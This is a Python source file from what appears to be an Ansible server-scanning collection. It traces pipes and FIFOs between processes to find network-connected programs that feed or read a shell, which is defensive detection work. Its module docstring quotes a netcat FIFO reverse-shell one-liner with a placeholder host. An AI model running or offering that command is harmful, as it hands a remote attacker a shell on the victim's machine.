# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Pipes and named FIFOs between processes (pipe(7), fifo(7)): who feeds one, and to whom its output goes.

"mkfifo f; sh -i <f 2>&1 | nc HOST PORT >f" is a shell on a connection, with any number of programs in between.
"""

from __future__ import annotations

import typing as t

from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity.surroundings import Surroundings
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.model import OpenFile, Process, Socket
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.view import Host

_KEY = "streams"
_PIPE = b"pipe:["
# Of a shell's neighbours; a whole host's pipes are not followed.
_MOST_PROCESSES = 200
# Of what ``Surroundings.access`` says.
_READS, _WRITES = 0, 1


class End(t.NamedTuple):
    """A process that has a connection, at the end of some streams.

    descriptor: by which it has the last stream. named: whether one of them is a FIFO with a name. peer: address, port.
    """

    process: Process
    descriptor: int
    named: bool
    peer: tuple[str, int]


class Streams:
    """Finds what is connected by streams. Pipes are told apart by their names, FIFOs by device and inode."""

    def __init__(self, host: Host, around: Surroundings) -> None:
        self._host = host
        self._around = around
        self._pipes: dict[bytes, list[tuple[Process, OpenFile]]] = {}
        self._fifos: dict[bytes, list[tuple[Process, OpenFile]]] | None = None
        # What was asked of descriptors: every shell of a program that started many has all of their pipes around it.
        self._access: dict[tuple[int, OpenFile], tuple[bool, bool]] = {}
        for process in host.processes.values():
            for file in process.files:
                if file.target.startswith(_PIPE):
                    self._pipes.setdefault(file.target, []).append((process, file))

    def is_stream(self, process: Process, file: OpenFile) -> bool:
        """Say whether a descriptor is of a pipe, or of a FIFO that has, or had, a name."""
        return self._stream(process, file) is not None

    def feeding(self, process: Process, file: OpenFile, stops: t.Callable[[Process], bool]) -> list[End]:
        """Return who has a connection and feeds a stream that a process reads.

        stops: says of which processes nothing is followed, as they are known to ask who is there.
        """
        return self._walk(process, file, _WRITES, _READS, stops)

    def fed(self, process: Process, file: OpenFile, stops: t.Callable[[Process], bool]) -> list[End]:
        """Return who has a connection and reads a stream that a process writes."""
        return self._walk(process, file, _READS, _WRITES, stops)

    def _walk(
        self, process: Process, file: OpenFile, near: int, far: int, stops: t.Callable[[Process], bool]
    ) -> list[End]:
        """Follow streams. near: what others do with a stream that leads to the process. far: with those behind it."""
        found: list[End] = []
        seen = {process.pid}
        followed: set[bytes] = set()
        waiting = [(process, file, False)]
        while waiting and len(seen) < _MOST_PROCESSES and self._host.seconds_left() > 0:
            one, through, named = waiting.pop(0)
            stream = self._stream(one, through)
            if stream is None or stream in followed:
                continue
            followed.add(stream)
            named = named or not stream.startswith(_PIPE)
            for other, end in self._ends(stream):
                if other.pid in seen or not self._can(other, end)[near]:
                    continue
                seen.add(other.pid)
                if stops(other):
                    continue
                peers = [socket.remote for socket in self._host.sockets_of(other) if is_connection(socket)]
                if peers and peers[0] is not None:
                    found.append(End(other, end.descriptor, named, peers[0]))
                waiting.extend(
                    (other, behind, named)
                    for behind in other.files
                    if behind.target.startswith((_PIPE, b"/")) and self._can(other, behind)[far]
                )
        return found

    def _can(self, process: Process, file: OpenFile) -> tuple[bool, bool]:
        """Return whether a process can read and write a descriptor that it had when the scan began."""
        asked = process.pid, file
        if asked not in self._access:
            self._access[asked] = self._around.access(process.pid, file.descriptor)
        return self._access[asked]

    def _stream(self, process: Process, file: OpenFile) -> bytes | None:
        """Return what tells a stream from others; None where a descriptor is of none."""
        if file.target.startswith(_PIPE):
            return file.target
        if not file.target.startswith(b"/"):
            return None
        fifo = self._around.fifo(process, file)
        return b"fifo:%d:%d" % fifo if fifo is not None else None

    def _ends(self, stream: bytes) -> list[tuple[Process, OpenFile]]:
        if stream.startswith(_PIPE):
            return self._pipes.get(stream, [])
        if self._fifos is None:
            # A FIFO has one name for each of its links, and in each mount namespace: all that is open is asked.
            self._fifos = {}
            for process in self._host.processes.values():
                for file in process.files:
                    its = self._stream(process, file) if file.target.startswith(b"/") else None
                    if its is not None:
                        self._fifos.setdefault(its, []).append((process, file))
        return self._fifos.get(stream, [])


def is_connection(socket: Socket) -> bool:
    """Say whether a socket leads to a peer in a network."""
    return socket.remote is not None and socket.protocol.startswith(("tcp", "udp", "sctp"))


def of(host: Host, around: Surroundings) -> Streams:
    """Return them, which are the same for a whole scan."""
    found: Streams = host.remember(_KEY, lambda: Streams(host, around))
    return found
